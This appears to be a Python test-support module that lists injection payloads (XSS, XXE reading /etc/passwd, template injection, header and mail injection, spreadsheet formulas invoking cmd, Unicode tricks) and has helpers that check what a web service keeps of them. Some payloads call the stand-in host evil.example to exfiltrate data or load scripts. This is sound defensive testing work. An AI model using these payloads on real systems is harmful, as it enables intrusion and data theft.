"""What has been typed to break services like this one, and what of it may be kept.

In each payload MARK stands for a word of its own for every field, so that the value is found again in
each output: a grid in which nothing is shown proves nothing.
"""

MARK = "§"

PAYLOADS: dict[str, str] = {
    # elements and handlers
    "script": "<script>alert('§')</script>",
    "script of another case": "<ScRiPt src=//evil.example/§.js></sCrIpT>",
    "script that ends an attribute": "\"'><script>alert(`§`)</script>",
    "script of json-ld": "</script><script>alert('§')</script>",
    "image with a handler": "<img src=x onerror=alert('§')>",
    "image without an end": "<img src='https://evil.example/?§",
    "handler in a title": '" onmouseover="alert(\'§\')" x="',
    "handler without quotes": "x onfocus=alert(1) autofocus tabindex=1 §",
    "svg": "<svg onload=alert('§')>",
    "svg that animates": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>§",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert('§')>",
    "frame with a document": "<iframe srcdoc='<script>alert(1)</script>§'></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'>§</object>",
    "button that sends elsewhere": "<form><button formaction=javascript:alert('§')>x",
    "form that sends elsewhere": "</form><form action=//evil.example><input name=§ autofocus>",
    "details": "<details open ontoggle=alert('§')>",
    "base": "<base href=//evil.example/><a href=§>",
    "meta": '<meta http-equiv=refresh content="0;url=//evil.example/§">',
    "link": "<link rel=stylesheet href=//evil.example/§.css>",
    "style": "<style>@import'//evil.example/§';</style>",
    "style of an element": "<p style=\"background:url(javascript:alert('§'))\">",
    "css expression": 'x;width:expression(alert("§"));-moz-binding:url(//evil.example)',
    "end of a text area": "</textarea></title></style></noscript><img src=x onerror=alert('§')>",
    "unbalanced": "</div></main></body></html><b><i><u>§",
    "comment without an end": "<!-- §",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;§",
    # addresses
    "javascript address": "javascript:alert('§')",
    "javascript with a tab": "java\tscript:alert('§')",
    "javascript with an entity": "java&#x73;cript&colon;alert('§')",
    "javascript that looks like https": "javascript://example.org/%0aalert('§')",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§",
    "address without a scheme": "//evil.example/§",
    # Markdown
    "markdown link": "[click](javascript:alert('§'))",
    "markdown picture": '![§](https://evil.example/p.png" onerror="alert(1))',
    "markdown title": "[x](https://example.org 'a\" onclick=\"alert(1)') §",
    "markdown brackets": "[" * 40 + "§" + "](" * 20,
    # files and letters
    "end of cdata": "]]><script>alert('§')</script><![CDATA[",
    "cue": "00:00:00.000 --> 00:00:09.000 position:0% line:0\n<c.x>§</c>",
    "end of a cue": "x --> y\n\nNOTE §\n\nSTYLE\n::cue{background:url(//evil.example)}",
    "cue of subrip": "2\n00:00:00,000 --> 00:00:09,000\n{\\an8}<font color=red>§</font>",
    "header": "x\r\nX-Injected: §\r\n\r\n<script>alert(1)</script>",
    "header of a letter": "x\r\nBcc: victim@evil.example\r\nSubject: §",
    "encoded word": "=?utf-8?q?=0d=0aBcc:_victim@evil.example?= §",
    "template of jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}§{% endfor %}",
    "template of others": "${7*7}#{7*7}<%= 7*7 %>{7*7}[[7*7]] §",
    "option": "-i /etc/passwd -f lavfi §",
    # tables
    "formula": "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"§\")",
    "formula with plus": "+cmd|' /C calc'!A0 §",
    "formula with at": "@SUM(1+9)*cmd|' /C calc'!A0 §",
    "formula after a tab": "\t=1+1 §",
    "wide formula": "＝1+1 §",
    "formula after what nobody sees": "\u200b=1+1 §",
    # characters
    "bidi": "\u202egpj.§\u202c\u2066x\u2069\u061c",
    "zero width": "a\u200bb\u200cc\u200d§\ufeff\u2060",
    "controls": "\x01\x02\x07\x08\x0b\x0c\x1b[31m§\x7f\x85\x9b",
    "nul and half a pair": "a\x00b\ud800c§\udfff",
    "overlong utf-8": "a\udcc0\udcafb\udce0\udc80\udcafc\udcff\udcfe§",
    "noncharacters": "\ufffe\uffff\U0001fffe§",
    "line separators": "a\u2028b\u2029c\u0085d§",
    "combining without end": "z" + "\u0335\u0327\u0300" * 12 + "§",
    "emoji of many parts": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 §",
    "entities": "&lt;script&gt;&amp;lt;&#60;&#x3c;&nbsp;&quot; §",
    "quotes": "\"'`´‘’“”«»„§",
    "wide signs": "＜script＞alert('§')＜/script＞",
    "very long": "§ " + "x" * 300,
}  # fmt: skip


def names(text: str) -> frozenset[str]:
    """The words of a list that is written as a text."""
    return frozenset(text.split())


def word(field: int, payload: int) -> str:
    """The word by which this payload in this field is found again: one word for search, too."""
    return f"q{field:02}x{payload:02}q"


def typed(payload: str, found_by: str) -> str:
    """The payload as it is typed into one field."""
    return PAYLOADS[payload].replace(MARK, found_by)


def sent(text: str) -> bytes:
    """The bytes of a form: halves of pairs as some programs send them, \\udc80 to \\udcff as bare bytes."""
    return b"".join(
        bytes([ord(c) - 0xDC00]) if 0xDC80 <= ord(c) <= 0xDCFF else c.encode("utf-8", "surrogatepass")
        for c in text
    )


def carried(text: str) -> str:
    """What of a typed text may be kept, white space aside: told apart by classes, not by our own list."""
    return squeezed(
        "".join(
            c
            for c in _received(sent(text))
            if ord(c) & 0xFFFE != 0xFFFE
            and not 0xFDD0 <= ord(c) <= 0xFDEF
            and (c in "\t\n\r\x85" or not (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F))
        )
    )


def _received(body: bytes) -> str:
    """Bytes that are no UTF-8 are spelled out by the form parser."""
    plain = body.decode("utf-8", "surrogateescape")
    return "".join(f"%{ord(c) - 0xDC00:02X}" if 0xDC80 <= ord(c) <= 0xDCFF else c for c in plain)


def squeezed(text: str) -> str:
    """The text without white space: where lines are broken is not asked."""
    return "".join(text.split())
